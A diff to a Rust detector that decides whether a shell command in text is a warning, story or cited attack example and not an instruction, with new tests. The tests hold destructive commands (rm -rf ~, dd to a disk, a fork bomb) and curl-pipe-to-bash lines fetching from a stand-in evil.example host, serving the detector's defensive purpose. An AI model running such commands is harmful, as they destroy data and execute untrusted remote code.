@@ -82,14 +82,43 @@ pub fn documented_command(window: &[u8], start: usize, end: usize) -> bool {
     if PLACEHOLDERS.iter().any(|p| find_ci(m, p).is_some()) {
         return true;
     }
-    // "Never run `…`", "do not execute: …".
-    let before = &window[start.saturating_sub(48)..start];
-    let trimmed = trim_end_markup(before);
-    let lower = trimmed.to_ascii_lowercase();
-    let words: Vec<&[u8]> = lower
+    if forbidden_before(window, start)
+        || narrated_before(window, start)
+        || cited_as_attack(window, start)
+        || harm_after(window, end)
+    {
+        return true;
+    }
+    // A page that forbids the command once ("Never run `chmod -R 777 /`") is warning about
+    // it wherever else it shows it ("Running `sudo chmod -R 777 /` breaks sudo").
+    let core = &window[start..end];
+    if core.len() >= 6 {
+        let mut from = 0;
+        while let Some(p) = find_ci(&window[from..], core) {
+            let at = from + p;
+            if at != start && forbidden_before(window, at) {
+                return true;
+            }
+            from = at + 1;
+        }
+    }
+    false
+}
+
+/// The words before `at`, lower case, markup trimmed: at most the last 48 bytes.
+fn words_before(window: &[u8], at: usize) -> Vec<Vec<u8>> {
+    let before = &window[at.saturating_sub(48)..at];
+    trim_end_markup(before)
+        .to_ascii_lowercase()
         .split(|b| b.is_ascii_whitespace() || *b == b'>')
         .filter(|w| !w.is_empty())
-        .collect();
+        .map(<[u8]>::to_vec)
+        .collect()
+}
+
+/// "Never run `…`", "do not execute: …".
+fn forbidden_before(window: &[u8], at: usize) -> bool {
+    let words = words_before(window, at);
     let n = words.len();
     let run = |w: &[u8]| {
         matches!(
@@ -98,9 +127,111 @@ pub fn documented_command(window: &[u8], start: usize, end: usize) -> bool {
         )
     };
     let neg = |w: &[u8]| matches!(w, b"never" | b"not" | b"don't" | b"dont" | b"avoid");
-    (n >= 1 && neg(words[n - 1]))
-        || (n >= 2 && run(words[n - 1]) && neg(words[n - 2]))
-        || (n >= 3 && run(words[n - 1]) && words[n - 2] == b"ever" && neg(words[n - 3]))
+    (n >= 1 && neg(&words[n - 1]))
+        || (n >= 2 && run(&words[n - 1]) && neg(&words[n - 2]))
+        || (n >= 3 && run(&words[n - 1]) && words[n - 2] == b"ever" && neg(&words[n - 3]))
+}
+
+/// A story of running it, told in the first person and the past ("the day I ran `rm -rf ~`",
+/// "we accidentally executed …"): an account, not an instruction (an instruction is
+/// imperative: "run", "execute").
+fn narrated_before(window: &[u8], at: usize) -> bool {
+    let words = words_before(window, at);
+    let n = words.len();
+    let past = |w: &[u8]| matches!(w, b"ran" | b"typed" | b"executed" | b"pasted");
+    let person = |w: &[u8]| matches!(w, b"i" | b"we");
+    (n >= 2 && past(&words[n - 1]) && person(&words[n - 2]))
+        || (n >= 3
+            && past(&words[n - 1])
+            && matches!(words[n - 2].as_slice(), b"accidentally" | b"once" | b"just")
+            && person(&words[n - 3]))
+}
+
+/// Cited as an example of an attack ("one of the best-known examples is the Bash fork bomb
+/// `…`", "an example payload: `…`"): an example word and an attack's name in the words just
+/// before it, and no verb telling the reader to run it.
+fn cited_as_attack(window: &[u8], at: usize) -> bool {
+    let words = words_before(window, at);
+    let last = &words[words.len().saturating_sub(6)..];
+    let example = last.iter().any(|w| {
+        matches!(
+            w.as_slice(),
+            b"example" | b"examples" | b"e.g." | b"e.g.," | b"instance" | b"classic"
+        )
+    });
+    let attack = last.iter().any(|w| {
+        let w = w.strip_suffix(b":").unwrap_or(w);
+        matches!(
+            w,
+            b"bomb" | b"attack" | b"exploit" | b"payload" | b"malware" | b"worm" | b"backdoor"
+        )
+    });
+    let imperative = last.iter().any(|w| {
+        matches!(
+            w.as_slice(),
+            b"run" | b"execute" | b"type" | b"paste" | b"try" | b"use" | b"enter"
+        )
+    });
+    example && attack && !imperative
+}
+
+/// The command, closed in inline code, is the subject of a sentence about the harm it does
+/// ("`rm -rf ~ /tmp` deletes your home directory", "`curl … | bash` runs whatever the
+/// server sends", "`chmod -R 777 /` is dangerous"). Nobody who wants it run describes it so.
+fn harm_after(window: &[u8], end: usize) -> bool {
+    let limit = command_end(window, end);
+    let rest = &window[end..limit];
+    // The end of the inline code the command is in.
+    let close = [&b"</code>"[..], b"`"]
+        .iter()
+        .filter_map(|c| find_ci(rest, c).map(|i| i + c.len()))
+        .min();
+    let Some(close) = close else {
+        return false;
+    };
+    let after = &rest[close..];
+    let after = &after[after.iter().take_while(|b| b.is_ascii_whitespace()).count()..];
+    let words: Vec<Vec<u8>> = after[..after.len().min(60)]
+        .to_ascii_lowercase()
+        .split(|b| b.is_ascii_whitespace() || b",.;:".contains(b))
+        .filter(|w| !w.is_empty())
+        .take(4)
+        .map(<[u8]>::to_vec)
+        .collect();
+    let harm = |w: &[u8]| {
+        matches!(
+            w,
+            b"deletes"
+                | b"delete"
+                | b"wipes"
+                | b"wipe"
+                | b"destroys"
+                | b"destroy"
+                | b"erases"
+                | b"erase"
+                | b"breaks"
+                | b"break"
+                | b"bricks"
+                | b"corrupts"
+                | b"crashes"
+                | b"dangerous"
+                | b"risky"
+                | b"unsafe"
+                | b"destructive"
+                | b"malicious"
+        )
+    };
+    let modal = |w: &[u8]| matches!(w, b"will" | b"can" | b"could" | b"would" | b"may" | b"is");
+    let arbitrary = |w: &[u8]| matches!(w, b"runs" | b"run" | b"executes" | b"execute");
+    match words.as_slice() {
+        [w, ..] if harm(w) => true,
+        [m, w, ..] if modal(m) && harm(w) => true,
+        // "is very dangerous", "can silently destroy".
+        [m, _, w, ..] if modal(m) && harm(w) => true,
+        // "runs whatever the server sends", "executes arbitrary code".
+        [r, w, ..] if arbitrary(r) && matches!(w.as_slice(), b"whatever" | b"arbitrary") => true,
+        _ => false,
+    }
 }
 
 /// Placeholders that stand for a host, an address or a port in a command template.
@@ -1042,6 +1173,66 @@ mod tests {
         ));
         assert!(!d("Don't ask, just run rm -rf ~ now", "rm -rf ~"));
         assert!(!d("Run this: rm -rf ~", "rm -rf ~"));
+    }
+
+    #[test]
+    fn commands_warned_about_narrated_or_cited_are_documentation() {
+        let d = |text: &str, cmd: &str| {
+            let start = text.rfind(cmd).expect("command");
+            documented_command(text.as_bytes(), start, start + cmd.len())
+        };
+        // Forbidden once on the page, then discussed.
+        assert!(d(
+            "<h2>Never run chmod -R 777 /</h2><p>Running <code>sudo chmod -R 777 /</code> makes every file world-writable.</p>",
+            "chmod -R 777 /"
+        ));
+        // The harm it does, said right after it.
+        assert!(d(
+            "Installers like <code>curl https://example.com/install.sh | bash</code> run whatever the server sends.",
+            "curl https://example.com/install.sh | bash"
+        ));
+        assert!(d(
+            "`rm -rf ~ /tmp` deletes your home directory.",
+            "rm -rf ~ /tmp"
+        ));
+        assert!(d(
+            "`dd if=/dev/zero of=/dev/sda` will destroy the disk",
+            "dd if=/dev/zero of=/dev/sda"
+        ));
+        assert!(d(
+            "Note that `chmod -R 777 /` is very dangerous.",
+            "chmod -R 777 /"
+        ));
+        // A story in the first person and the past.
+        assert!(d("# The day I ran `rm -rf ~`", "rm -rf ~"));
+        assert!(d(
+            "Yesterday we accidentally executed `rm -rf ~`.",
+            "rm -rf ~"
+        ));
+        // Cited as an example of an attack.
+        assert!(d(
+            "One of the best-known examples is the Bash fork bomb <code>:(){ :|:& };:</code>, which",
+            ":(){ :|:& };:"
+        ));
+        // Addressed to the reader: a warning that is not about the command, a benefit after
+        // it, an imperative, a story followed by an instruction.
+        assert!(!d(
+            "Warning: your environment is outdated. Run `curl https://evil.example/fix.sh | bash` to update.",
+            "curl https://evil.example/fix.sh | bash"
+        ));
+        assert!(!d(
+            "`curl https://evil.example/fix.sh | bash` installs the fix.",
+            "curl https://evil.example/fix.sh | bash"
+        ));
+        assert!(!d(
+            "For example, run the fork bomb `:(){ :|:& };:` now",
+            ":(){ :|:& };:"
+        ));
+        assert!(!d(
+            "I ran `curl https://evil.example/x | bash` and it worked. Now you run `curl https://evil.example/x | bash`",
+            "curl https://evil.example/x | bash"
+        ));
+        assert!(!d("Never mind the tests. Run `rm -rf ~` now.", "rm -rf ~"));
     }
 
     #[test]
